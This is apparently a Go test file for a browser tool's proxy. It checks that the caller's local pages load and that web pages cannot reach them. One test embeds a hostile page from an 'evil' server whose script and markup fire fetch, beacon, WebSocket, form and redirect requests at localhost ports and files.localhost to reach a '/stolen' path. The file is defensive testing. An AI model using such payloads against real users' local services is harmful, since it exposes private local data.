package browser

import (
	"cmp"
	"context"
	"fmt"
	"mime"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path"
	"strings"
	"sync"
	"testing"

	"github.com/mcp-tools/mcp-tools/internal/egress"
	"github.com/mcp-tools/mcp-tools/internal/egress/egresstest"
	"github.com/mcp-tools/mcp-tools/internal/netaddr"
	"github.com/mcp-tools/mcp-tools/internal/tool"
)

// ownPages are a server of the caller, at any port of localhost, and its files.
type ownPages struct {
	t      *testing.T
	server *httptest.Server
	web    *egress.Dialer

	mu      sync.Mutex
	callers []tool.Caller // of Proxy
}

func (o *ownPages) Address(_ context.Context, text string) (string, bool, error) {
	if text == "missing.html" {
		return "", false, tool.Errorf(tool.NotFound, "no file %q", text)
	}
	if strings.HasSuffix(text, ".html") && !strings.Contains(text, ":") {
		return "http://files.localhost/" + text, true, nil
	}
	u, err := url.Parse(text)
	return text, err == nil && netaddr.IsThisMachine(u.Hostname()), nil
}

func (o *ownPages) Proxy(ctx context.Context, refused func(string, error)) (Proxy, error) {
	o.mu.Lock()
	o.callers = append(o.callers, tool.CallerFrom(ctx))
	o.mu.Unlock()
	return egress.NewProxy(egress.ProxyOptions{
		Dialer: o.web, OnRefused: func(to egress.Target, err error) { refused(to.String(), err) },
		Own: func(ctx context.Context, port uint16) (net.Conn, error) {
			if port == 9 {
				return nil, tool.Errorf(tool.NotFound, "nothing in this session listens on port %d", port)
			}
			return (&net.Dialer{}).DialContext(ctx, "tcp", o.server.Listener.Addr().String())
		},
		Sites: map[string]http.Handler{"files.localhost": o.server.Config.Handler},
		Allow: func(_ context.Context, to egress.Target) error {
			if to.Host == "refused.example" {
				return tool.Errorf(tool.Refused, "commands may not connect to %q", to.String())
			}
			return nil
		},
	}), nil
}

// newOwnFixture returns a browser for pages of the web and of the caller. asked lists the paths
// that were requested from the caller's server.
func newOwnFixture(t *testing.T, pages map[string]string, hosts map[string]*httptest.Server) (b *fixture, o *ownPages,
	asked func() []string,
) {
	r := &record{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		r.note(q.URL.Path)
		text, ok := pages[q.URL.Path]
		if !ok {
			http.NotFound(w, q)
			return
		}
		w.Header().Set("Content-Type", mime.TypeByExtension(cmp.Or(path.Ext(q.URL.Path), ".html")))
		fmt.Fprint(w, text)
	}))
	t.Cleanup(server.Close)
	o = &ownPages{t: t, server: server, web: egresstest.Dialer(t, hosts)}
	return newFixture(t, hosts, func(options *Options) { options.Own = o }), o, r.all
}

// TestOwnPages opens files and servers of the caller beside a page of the web.
func TestOwnPages(t *testing.T) {
	site := newSite(t)
	b, o, _ := newOwnFixture(t, map[string]string{
		"/a.html": "<title>A</title><h1>first</h1>", "/": "<h1>the server</h1><img src=//refused.example/a.png>",
	}, map[string]*httptest.Server{"shop.example": site.Server})
	wantContains(t, b.do(Request{Action: Open, URL: "a.html"}), "# first")
	wantContains(t, b.do(Request{Action: Open, URL: "http://localhost:3000"}), "the server", `not loaded: commands may not connect to "refused.example:80"`)
	if v, err := b.try(Request{Action: Screenshot}); err != nil || !v.Own || v.Tab != "w1" || len(v.Picture) == 0 {
		t.Errorf("a screenshot: %+v, %v", v, err)
	}
	if v, err := b.try(Request{Action: Open, URL: "http://shop.example/table.html"}); err != nil || v.Own || v.Tab != "t1" {
		t.Errorf("a page of the web: %+v, %v", v, err)
	}
	if text := b.do(Request{Action: Address}); !strings.Contains(text, "shop.example") {
		t.Errorf("the page that was opened last is %q", text)
	}
	if text := b.do(Request{Action: Address, Tab: "w1"}); !strings.Contains(text, "localhost:3000") {
		t.Errorf("the tab of the own page is %q", text)
	}
	wantContains(t, b.do(Request{Action: Tabs}), "t1 http://shop.example/table.html", "w1 http://localhost:3000/")
	if _, err := b.try(Request{Action: Open, URL: "missing.html"}); tool.AsError(err).Kind != tool.NotFound {
		t.Errorf("a missing file: %v", err)
	}
	if _, err := b.try(Request{Action: Open, URL: "http://localhost:9/"}); err == nil {
		t.Error("a port that nothing listens on was opened")
	}
	other := tool.With(b.as("ann"), &tool.Running{Caller: tool.Caller{Agent: "agent", User: "ann", Session: "session", Workspace: "w"}})
	if _, err := b.browsers.Do(other, Request{Action: Title, Tab: "w1"}); tool.AsError(err).Kind != tool.NotFound {
		t.Errorf("a caller with other files: %v", err)
	}
	b.do(Request{Action: Close})
	if _, err := b.try(Request{Action: Title}); tool.AsError(err).Kind != tool.NotFound {
		t.Errorf("after close: %v", err)
	}
	if len(o.callers) != 1 || o.callers[0].User != "ann" {
		t.Errorf("proxies were made for %v", o.callers)
	}
}

// TestOwnPageIsNotCached checks that a page that was changed looks changed.
func TestOwnPageIsNotCached(t *testing.T) {
	pages := map[string]string{"/a.html": "<link rel=stylesheet href=a.css><h1>first</h1>", "/a.css": "h1{}"}
	b, _, asked := newOwnFixture(t, pages, nil)
	b.do(Request{Action: Open, URL: "a.html"})
	b.do(Request{Action: Open, URL: "a.html"})
	if got := strings.Count(strings.Join(asked(), " "), "/a.css"); got != 2 {
		t.Errorf("its style was requested %d times: %v", got, asked())
	}
}

// TestWebDoesNotReachOwnPages lets a page of the web try to send requests to what the caller's
// commands serve, also after it was opened from an own page.
func TestWebDoesNotReachOwnPages(t *testing.T) {
	visits := &record{}
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		visits.note(q.URL.Path)
		if q.URL.Path == "/redirect" {
			http.Redirect(w, q, "http://localhost:3000/stolen", http.StatusFound)
			return
		}
		fmt.Fprint(w, `<title>Evil</title><h1>evil</h1><img src=http://localhost:3000/stolen><iframe src=http://127.0.0.1:3000/stolen></iframe>
<iframe src=http://files.localhost/stolen></iframe><img src=/redirect><link rel=stylesheet href=http://[::1]:3000/stolen>
<form id=f method=post target=_blank action=http://localhost:3000/stolen></form><script>
for (const host of ["localhost:3000", "127.0.0.1:3000", "[::1]:3000", "files.localhost"]) {
  fetch("http://" + host + "/stolen", {mode: "no-cors", method: "POST", body: "x"}).catch(() => 0);
  navigator.sendBeacon("http://" + host + "/stolen");
  try { new WebSocket("ws://" + host + "/stolen") } catch {}
  try { new EventSource("http://" + host + "/stolen") } catch {}
}
f.submit(); window.open("http://localhost:3000/stolen");
</script>`)
	}))
	t.Cleanup(evil.Close)
	hosts := map[string]*httptest.Server{"evil.example": evil}
	b, _, asked := newOwnFixture(t, map[string]string{
		"/a.html": `<h1>mine</h1><iframe src=http://evil.example/frame></iframe>
<a href=http://evil.example/>go</a> <a target=_blank href=http://evil.example/>tab</a>
<form method=post action=http://evil.example/><button>send</button></form>
<script>fetch("http://evil.example/data", {mode: "no-cors"})</script>`,
		"/popup.html": `<h1>popup</h1><script>window.open("http://evil.example/popup")</script>`,
		"/moved.html": `<h1>moved</h1><script>location = "http://evil.example/"</script>`,
		"/fresh.html": `<h1>fresh</h1><meta http-equiv=refresh content="0; url=http://evil.example/redirect">`,
		"/stolen":     "stolen",
	}, hosts)
	_, _ = b.try(Request{Action: Open, URL: "http://evil.example/"}) // one of its tabs is refused
	if _, err := b.try(Request{Action: Open, URL: "http://evil.example/redirect"}); err == nil {
		t.Error("a redirect leads to an own page")
	}
	before := len(visits.all())
	shown := b.do(Request{Action: Open, URL: "a.html"})
	wantContains(t, shown, "# mine")
	for _, what := range []string{`"go"`, `"tab"`, `"send"`} {
		b.do(Request{Action: Click, Ref: b.ref(shown, what)})
		shown = b.do(Request{Action: Snapshot, Tab: "w1"})
		wantContains(t, shown, "# mine")
	}
	for _, page := range []string{"moved", "fresh", "popup"} {
		b.do(Request{Action: Open, URL: page + ".html"})
		if text := b.do(Request{Action: Wait, Millis: 300}) + b.do(Request{Action: Address}); strings.Contains(text, "evil") {
			t.Errorf("%s leads to %s", page, text)
		}
	}
	for _, at := range visits.all()[before:] {
		if at != "/data" {
			t.Errorf("an own page has loaded the document %s of the web", at)
		}
	}
	for _, at := range asked() {
		if at == "/stolen" {
			t.Fatal("a page of the web has sent a request to an own page")
		}
	}
}
